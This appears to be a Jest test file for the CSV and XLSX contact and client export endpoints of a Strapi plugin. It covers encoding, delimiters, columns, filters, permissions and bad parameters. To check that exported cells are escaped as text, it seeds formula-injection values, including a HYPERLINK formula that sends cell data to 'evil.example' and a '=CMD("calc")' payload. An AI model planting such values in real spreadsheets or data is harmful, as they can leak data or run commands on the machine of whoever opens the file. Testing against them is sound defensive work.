import { beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { ACTION, ACTIONS, UID } from '../../src/plugins/caladeo-contacts/shared/constants';
import { adminClient, adminTokenWithActions, superAdminToken, type AdminClient } from '../helpers/admin';
import { adminCsvRows, adminDownload } from '../helpers/downloads';
import { errorCodes } from '../helpers/http';
import { useStrapi } from '../helpers/strapi';

const app = useStrapi();
let admin: AdminClient;
let token: string;

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"clic")';

beforeAll(async () => {
  token = await superAdminToken(app);
  admin = adminClient(app, token);
  const create = async (body: Record<string, unknown>) => {
    const response = await admin.post('/contacts', body);
    expect(response.status).toBe(201);
  };
  await create({
    firstName: 'Zoé',
    lastName: 'Lefèvre',
    email: 'zoe.lefevre@example.fr',
    addressLine1: '3 rue de l’Œuvre',
    addressLine2: 'Cotisation 20 €',
    phone: '06 12 34 56 78',
    city: 'Lyon',
    country: 'FR',
    newsletter: false,
  });
  await create({ firstName: 'Noël', lastName: 'Cœur', email: 'noel.coeur@example.fr', country: 'BE' });
  await create({
    firstName: HYPERLINK,
    lastName: '+Formule',
    city: '-Ville',
    addressLine1: '@SUM(1+1)',
    email: 'piege@example.fr',
    country: 'FR',
  });
  for (const [name, notes] of [
    ['Amicale des cheminots', 'Budget 1 200 € – œuvre d’art'],
    ['=CMD("calc")', null],
  ]) {
    const response = await admin.post('/clients', { name, type: 'association', notes });
    expect(response.status).toBe(201);
  }
});

const download = (path: string, credential: string | null = token) => adminDownload(app, path, credential);
const csvRows = (path: string, delimiter = ';') => adminCsvRows(app, path, token, delimiter);

const xlsxSheet = async (path: string) => {
  const response = await download(path);
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.body as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('the workbook has no sheet');
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return { sheet, rows, headers: response.headers as Record<string, string> };
};

describe('CSV that French Excel opens in columns', () => {
  it('is UTF-8 with a byte-order mark, `;`-separated, accents and typographic characters intact', async () => {
    const response = await download('/contacts/export?columns=firstName,lastName,addressLine1,addressLine2');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/
    );
    const bytes = response.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe('firstName;lastName;addressLine1;addressLine2');
    expect(text).toContain('Zoé;Lefèvre;3 rue de l’Œuvre;Cotisation 20 €');
    expect(text).toContain('Noël;Cœur;;');
    // the same characters, byte for byte, as UTF-8 encodes them
    expect(bytes.includes(Buffer.from('Œuvre', 'utf8'))).toBe(true);
    expect(bytes.includes(Buffer.from([0xe2, 0x82, 0xac]))).toBe(true); // €
  });

  it('uses `,` when asked, for English Excel and other software', async () => {
    const response = await download('/contacts/export?delimiter=,&columns=lastName,city');
    const lines = (response.body as Buffer)
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[0]).toBe('lastName,city');
    expect(lines).toContain('Lefèvre,Lyon');
  });

  it('has only the chosen columns, in the order given, headed by their labels in the language asked', async () => {
    const rows = await csvRows('/contacts/export?columns=email,lastName,newsletter&headers=fr');
    expect(rows[0]).toEqual(['E-mail', 'Nom', 'Newsletter']);
    expect(rows).toContainEqual(['zoe.lefevre@example.fr', 'Lefèvre', 'false']);
    const english = await csvRows('/contacts/export?columns=country,documentId&headers=en');
    expect(english[0]).toEqual(['Country', 'Id']);
  });

  it('without columns, has the record id, every field of the contact and its creation date', async () => {
    const [header] = await csvRows('/contacts/export');
    expect(header).toEqual([
      'documentId',
      'firstName',
      'lastName',
      'gender',
      'email',
      'phone',
      'addressLine1',
      'addressLine2',
      'postalCode',
      'city',
      'region',
      'country',
      'newsletter',
      'preferredLanguage',
      'createdAt',
    ]);
  });
});

describe('XLSX', () => {
  it('reads back in a spreadsheet library with the chosen columns, text and dates as cells', async () => {
    const { sheet, rows, headers } = await xlsxSheet(
      '/contacts/export?format=xlsx&columns=lastName,firstName,createdAt&q=lefevre'
    );
    expect(headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(headers['content-disposition']).toMatch(/filename="contacts-\d{4}-\d{2}-\d{2}\.xlsx"/);
    expect(sheet.name).toBe('contacts');
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual(['lastName', 'firstName', 'createdAt']);
    expect(rows[1]?.slice(0, 2)).toEqual(['Lefèvre', 'Zoé']);
    expect(rows[1]?.[2]).toBeInstanceOf(Date);
  });

  it('exports the client list with its own fields', async () => {
    const { sheet, rows } = await xlsxSheet('/clients/export?format=xlsx&columns=name,notes&headers=fr');
    expect(sheet.name).toBe('clients');
    expect(rows[0]).toEqual(['Nom', 'Notes']);
    expect(rows).toContainEqual(['Amicale des cheminots', 'Budget 1 200 € – œuvre d’art']);
  });
});

describe('the list as searched and filtered on screen', () => {
  it('honours the search and the filters, and every row of the list, not one page of it', async () => {
    expect((await csvRows('/contacts/export?q=coeur&columns=lastName')).slice(1)).toEqual([['Cœur']]);
    expect((await csvRows('/contacts/export?country=BE&columns=lastName')).slice(1)).toEqual([['Cœur']]);
    const french = await csvRows('/contacts/export?country=FR&columns=email');
    expect(
      french
        .slice(1)
        .map(([email]) => email)
        .sort()
    ).toEqual(['piege@example.fr', 'zoe.lefevre@example.fr']);
    expect((await csvRows('/clients/export?q=amicale&columns=name')).slice(1)).toEqual([
      ['Amicale des cheminots'],
    ]);

    const many = Array.from({ length: 130 }, (_, index) => ({
      lastName: `Lot${String(index).padStart(3, '0')}`,
      email: `lot-${index}@example.fr`,
      gender: 'unspecified' as const,
      newsletter: false,
      preferredLanguage: 'fr' as const,
    }));
    for (const data of many) await app.strapi.documents(UID.contact).create({ data });
    const all = await csvRows('/contacts/export?q=lot&order=name&columns=lastName');
    // more than the largest list page (100), in the list's order
    expect(all.slice(1).map(([lastName]) => lastName)).toEqual(many.map((data) => data.lastName));
  });
});

describe('cells that a spreadsheet would run as formulas', () => {
  it('are text in CSV, phones included: a spreadsheet would drop their leading plus', async () => {
    expect((await csvRows('/contacts/export?q=lefevre&columns=phone')).slice(1)).toEqual([["'+33612345678"]]);
    const rows = await csvRows('/contacts/export?country=FR&columns=firstName,lastName,city,addressLine1');
    expect(rows).toContainEqual([`'${HYPERLINK}`, "'+Formule", "'-Ville", "'@SUM(1+1)"]);
    expect((await csvRows('/clients/export?columns=name')).slice(1)).toContainEqual([`'=CMD("calc")`]);
  });

  it('are text in XLSX, never formulas', async () => {
    const { sheet, rows } = await xlsxSheet(
      '/contacts/export?format=xlsx&country=FR&columns=firstName,lastName,city,addressLine1'
    );
    expect(rows).toContainEqual([`'${HYPERLINK}`, "'+Formule", "'-Ville", "'@SUM(1+1)"]);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});

describe('who may export', () => {
  const allBut = (action: string) =>
    ACTIONS.map(({ uid }) => `plugin::caladeo-contacts.${uid}`).filter((held) => held !== action);

  it.each([
    ['/contacts/export', ACTION['contacts.export']],
    ['/clients/export', ACTION['clients.export']],
  ])('%s: 401 anonymous, 403 to a role holding every action but %s', async (path, action) => {
    expect((await download(path, null)).status).toBe(401);
    const refused = await download(`${path}?format=xlsx`, await adminTokenWithActions(app, allBut(action)));
    expect(refused.status).toBe(403);
    const allowed = await download(path, await adminTokenWithActions(app, [action]));
    expect(allowed.status).toBe(200);
  });
});

describe('bad parameters', () => {
  it.each([
    ['format=pdf', 'format: choice.invalid'],
    ['delimiter=%7C', 'delimiter: choice.invalid'],
    ['columns=firstName,searchText', 'columns: choice.invalid'],
    ['columns=', 'columns: choice.invalid'],
    ['headers=de', 'headers: choice.invalid'],
    ['country=France', 'country: country.notAlpha2'],
    ['colour=blue', 'colour: field.notAllowed'],
  ])('?%s is a 400 naming the parameter', async (query, expected) => {
    const response = await admin.get(`/contacts/export?${query}`);
    expect(response.status).toBe(400);
    expect(errorCodes(response.body)).toEqual([expected]);
  });

  it('names `columns` on the client export too, for a contact field', async () => {
    const response = await admin.get('/clients/export?columns=name,firstName');
    expect(response.status).toBe(400);
    expect(errorCodes(response.body)).toEqual(['columns: choice.invalid']);
  });
});
